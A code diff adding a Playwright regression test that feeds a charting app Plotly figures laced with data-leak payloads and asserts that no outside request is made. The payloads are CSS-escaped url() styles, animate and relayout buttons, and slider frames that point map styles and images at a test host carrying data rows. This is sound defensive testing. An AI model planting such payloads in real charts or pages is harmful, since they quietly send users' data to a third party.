@@ -11,7 +11,7 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page, Request } from '@playwright/test';
 import { marked, type Token } from 'marked';
-import { exportAs, type ExportItem } from './support/downloads';
+import { download, exportAs, type ExportItem } from './support/downloads';
 import { expect, sharedApp, test } from './support/fixtures';
 import { ask, chat, configureEndpoint, expectIdle, openSteps, useMockLlm } from './support/mockLlm';
 import { ATTEMPT_PY, pythonConsole } from './support/pythonConsole';
@@ -467,6 +467,125 @@ fig = {
     } finally {
       await viewer.close();
     }
+  });
+
+  // Issue #31: what a pattern let through — CSS escapes in a style, buttons and frames that carry
+  // figures, maps on a third party's style — attacked in the app, in the .ipynb drawn by plotly.js
+  // with no CSP, and in the chart's Download SVG opened in a browser. Ordinary features stay.
+  test('figure text, buttons, frames and maps: nothing fetched in the app, the notebook or the SVG; styled titles, buttons and offline maps still work', async ({ browser }) => {
+    test.setTimeout(300_000);
+    const app = shared();
+    const page = app.page;
+    const appOrigin = new URL(page.url()).origin;
+    const foreign: string[] = [];
+    const onRequest = (r: Request) => {
+      const u = new URL(r.url());
+      // The model's endpoint is the one other host the page may call.
+      if (/^https?:$/.test(u.protocol) && u.origin !== appOrigin && u.origin !== new URL(mock.url).origin) foreign.push(r.url());
+    };
+    page.on('request', onRequest);
+    await mock.reset();
+    await configureEndpoint(page, mock, { key: KEY });
+    const figCode = [
+      `U = ${JSON.stringify(url)}`,
+      'ROWS = "Adelie,39.1,181"',
+      // The issue's form: CSS escapes inside a quoted style (the value holds `u\72l(`).
+      `span = "<span style='cursor:u\\\\72l(" + U + "/c?d=" + ROWS + "),auto;background-image:u\\\\rl(" + U + "/b?d=" + ROWS + ")'>x</span>"`,
+      'fig = {',
+      '  "data": [',
+      '    {"type": "bar", "x": ["a", "b"], "y": [1, 2], "name": "bars", "hovertemplate": span + "%{y}<extra></extra>"},',
+      '    {"type": "scatter", "x": ["a", "b"], "y": [2, 1], "name": "line"},',
+      '  ],',
+      '  "layout": {',
+      '    "title": {"text": "<span style=\\"color:#d62728\\">Red</span> <b>bold</b> " + span},',
+      '    "annotations": [{"text": span, "x": 0, "y": 1, "xref": "paper", "yref": "paper", "showarrow": False}],',
+      '    "updatemenus": [{"type": "buttons", "x": 1, "y": 1.2, "buttons": [',
+      '      {"method": "restyle", "label": "only bars", "args": ["visible", [True, False]]},',
+      '      {"method": "animate", "label": "leak", "args": [[{"name": "evil", "layout": {"map": {"style": U + "/style.json?d=" + ROWS}, "images": [{"source": U + "/img.png?d=" + ROWS, "x": 0, "y": 1}]}}], {"frame": {"duration": 0}}]},',
+      '      {"method": "relayout", "label": "style", "args": [{"images[0].source": U + "/relayout.png?d=" + ROWS, "title.text": span}]},',
+      '      {"method": "animate", "label": "play", "args": [["f1"], {"frame": {"duration": 0, "redraw": True}}]}',
+      '    ]}]',
+      '  },',
+      '  "frames": [{"name": "f1", "data": [{"y": [3, 4]}, {"y": [4, 3]}], "layout": {"title": {"text": "frame one"}}}]',
+      '}',
+    ].join('\n');
+    const mapCode = [
+      `U = ${JSON.stringify(url)}`,
+      'fig = {"data": [{"type": "scattermap", "lat": [48.8, 40.7], "lon": [2.3, -74], "mode": "markers", "marker": {"size": 14, "symbol": ["airport", "circle"]}}],',
+      '       "layout": {"sliders": [{"steps": [{"method": "animate", "label": "s", "args": [[{"name": "m", "layout": {"map": {"style": U + "/slider-style.json"}}}]]}]}]}}',
+    ].join('\n');
+    await mock.script([
+      {
+        type: 'tool_calls',
+        calls: [
+          { name: 'run_python', arguments: { code: figCode } },
+          { name: 'run_python', arguments: { code: mapCode } },
+          { name: 'create_chart', arguments: { sql: 'SELECT "Species", count(*) AS n FROM penguins GROUP BY 1 ORDER BY 1', chart: { type: 'bar', x: 'Species', y: 'n', title: `<span style="cursor:u\\72l(${url}/cc?d=rows),auto;background-image:u\\rl(${url}/cc2?d=rows)">Counts</span>` } } },
+        ],
+      },
+      { type: 'text', content: 'Charts drawn.' },
+      { type: 'structured', when: 'validation_report', value: { is_valid: true, issues: [], suggestions: [], confidence: 0.5 } },
+    ]);
+    await page.getByRole('button', { name: 'New conversation' }).click();
+    await ask(page, 'Draw the charts.');
+    await expectIdle(page);
+    const answer = chat(page).answers.last();
+    const charts = answer.getByRole('figure');
+    await expect(charts.first()).toBeVisible();
+    await expect(answer.locator('.main-svg').first()).toBeAttached({ timeout: 30_000 });
+
+    // In the app: the styled title keeps its colour and bold, the injected style is gone.
+    const styled = answer.locator('.gtitle').filter({ hasText: 'Red' }).first();
+    await expect(styled).toBeAttached();
+    expect(await styled.evaluate((el) => el.querySelector('tspan[style*="fill:red"], tspan[style*="fill: red"], tspan[style*="d62728"]') !== null)).toBe(true);
+    expect(await styled.evaluate((el) => el.querySelector('tspan[style*="font-weight:bold"], tspan[style*="font-weight: bold"]') !== null)).toBe(true);
+    // No style on the page's charts names anything outside the document (Plotly's own clip paths are `url(#…)`).
+    expect(await answer.evaluate((el) => [...el.querySelectorAll('[style]')].map((n) => n.getAttribute('style') ?? '').filter((st) => /url\((?!['"]?#)|\\/.test(st)))).toEqual([]);
+    // Every button works and fetches nothing; the restyle one hides the line.
+    for (const label of ['leak', 'style', 'play']) await answer.getByText(label, { exact: true }).first().click();
+    await expect(answer.locator('.scatterlayer .trace')).not.toHaveCount(0);
+    await answer.getByText('only bars', { exact: true }).first().click();
+    await expect(answer.locator('.scatterlayer .trace')).toHaveCount(0);
+    // The map draws on the offline style: no "Map error.", no request for tiles, styles or icons.
+    await expect(answer.locator('.maplibregl-canvas').first()).toBeAttached({ timeout: 30_000 });
+    await expect(answer).not.toContainText('Map error');
+    // The slider's step carries a frame naming a style URL: moving to it fetches nothing.
+    await answer.locator('.slider-group').first().click({ force: true, timeout: 5_000 }).catch(() => undefined);
+
+    // Download SVG of each drawn chart, opened as a browser opens a file.
+    const svgs: string[] = [];
+    for (const chart of await charts.all()) {
+      if (await chart.locator('.maplibregl-canvas').count()) continue;
+      svgs.push((await download(page, () => chart.getByRole('button', { name: 'Download SVG' }).click())).text);
+    }
+    expect(svgs.length).toBeGreaterThanOrEqual(2);
+
+    // The notebook export, drawn by plotly.js in a page with no CSP, every button clicked.
+    const notebook = JSON.parse((await exportAs(page, 'Notebook (.ipynb)')).text) as { cells: { outputs?: { data?: Record<string, unknown> }[] }[] };
+    const figures = notebook.cells.flatMap((c) => c.outputs ?? []).flatMap((o) => (o.data?.['application/vnd.plotly.v1+json'] ? [o.data['application/vnd.plotly.v1+json']] : []));
+    expect(figures.length).toBeGreaterThanOrEqual(3);
+    const viewer = await browser.newPage();
+    try {
+      for (const svg of svgs) await viewer.setContent(`<!doctype html><body>${svg}</body>`);
+      await viewer.setContent('<!doctype html><body></body>');
+      await viewer.addScriptTag({ path: 'node_modules/plotly.js-dist-min/plotly.min.js' });
+      await viewer.evaluate(async (figs) => {
+        const P = (window as unknown as { Plotly: { newPlot: (el: HTMLElement, f: unknown) => Promise<unknown> } }).Plotly;
+        for (const f of figs) {
+          const div = document.createElement('div');
+          document.body.append(div);
+          await P.newPlot(div, f).catch(() => undefined);
+        }
+      }, figures);
+      for (const button of await viewer.locator('.updatemenu-button').all()) await button.click({ force: true, timeout: 5_000 });
+      for (const slider of await viewer.locator('.slider-group').all()) await slider.click({ force: true, timeout: 5_000 }).catch(() => undefined);
+      await expectNoHits(viewer);
+    } finally {
+      await viewer.close();
+    }
+    await expectNoHits(page);
+    page.off('request', onRequest);
+    expect(foreign).toEqual([]);
   });
 
   test('Cancel stops a long DuckDB query and the console answers at once afterwards', async () => {
